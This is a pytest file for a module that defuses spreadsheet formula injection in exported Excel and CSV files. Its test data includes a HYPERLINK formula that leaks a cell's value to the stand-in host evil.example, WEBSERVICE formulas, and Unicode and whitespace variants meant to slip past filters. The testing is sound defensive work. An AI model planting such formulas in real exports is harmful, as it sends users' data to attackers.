"""Text that would be a formula stays text, in whatever file it leaves the platform."""

import ast
import csv
import io

import openpyxl
import pytest

from tests.architecture.sources import nodes
from ui.workbooks.writing import as_text, as_written, csv_rows, is_like_formula, put, sheet_row

EVIL = '=HYPERLINK("http://evil.example/?"&A2;"Salaire")'
FORMULAS = [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200f=1", "＝1", "＠x"]
HARMLESS = ["Fatima", "الأمراني", "a=b", "O'Brien", "Rue 5, n° 3; Rabat", "", "2018-01-01", -5, 3.5, None, True]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_is_known(text):
    assert is_like_formula(text)
    assert as_text(text)[0] == "'" and as_text(text).replace("'", "") == text


@pytest.mark.parametrize("value", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(value):
    assert as_text(value) == value


def test_in_a_workbook_it_is_text_and_stays_so():
    book = openpyxl.Workbook(write_only=True)
    page = book.create_sheet()
    page.append(sheet_row(page, [EVIL, "Fatima", 5, "a\x0bb"]))
    file = io.BytesIO()
    book.save(file)

    cells = openpyxl.load_workbook(file).active[1]
    assert [(cell.value, cell.data_type) for cell in cells] == [(EVIL, "s"), ("Fatima", "s"), (5, "n"), ("ab", "s")]
    assert [cell.quotePrefix for cell in cells[:2]] == [True, False]


def test_letters_that_no_workbook_holds_are_left_out():
    sheet = openpyxl.Workbook().active
    assert put(sheet["A1"], "a\x00\x0bb").value == "ab"


def test_in_a_csv_file_a_sign_stands_before_it():
    target = io.StringIO()
    csv_rows(target)([EVIL, "Fatima", -5, 'a"b'])
    assert next(csv.reader(io.StringIO(target.getvalue()), delimiter=";")) == [f"'{EVIL}", "Fatima", "-5", 'a"b']


@pytest.mark.parametrize("written", [",", ";"])
@pytest.mark.parametrize("read", [",", ";", "\t"])
def test_also_where_the_file_is_split_at_another_sign(written, read):
    """As Excel does: at the sign of its language, and quotation marks count at a cell's beginning only."""
    target = io.StringIO()
    texts = [f"x{sign}{blank}=WEBSERVICE(A1){sign}" for sign in ",;\t\r\n" for blank in ("", " ", "\u00a0")]
    for text in texts:
        csv_rows(target, written)(["JSM-000001", text, "F"])

    cells = [cell for row in csv.reader(target.getvalue().splitlines(), delimiter=read) for cell in row]

    assert [cell for cell in cells if cell and is_like_formula(cell)] == []
    assert [as_written(as_text(text)) for text in texts] == texts


def test_no_other_module_writes_such_files_by_itself():
    called = {"csv.writer", "csv.DictWriter", "WriteOnlyCell"}
    made = {path for path, node in nodes(ast.Call) if ast.unparse(node.func) in called}
    assert made <= {"ui/workbooks/writing.py", "beneficiaries/resources/annotated.py"} | {
        path for path in made if path.startswith("reports/management/demo/")
    }
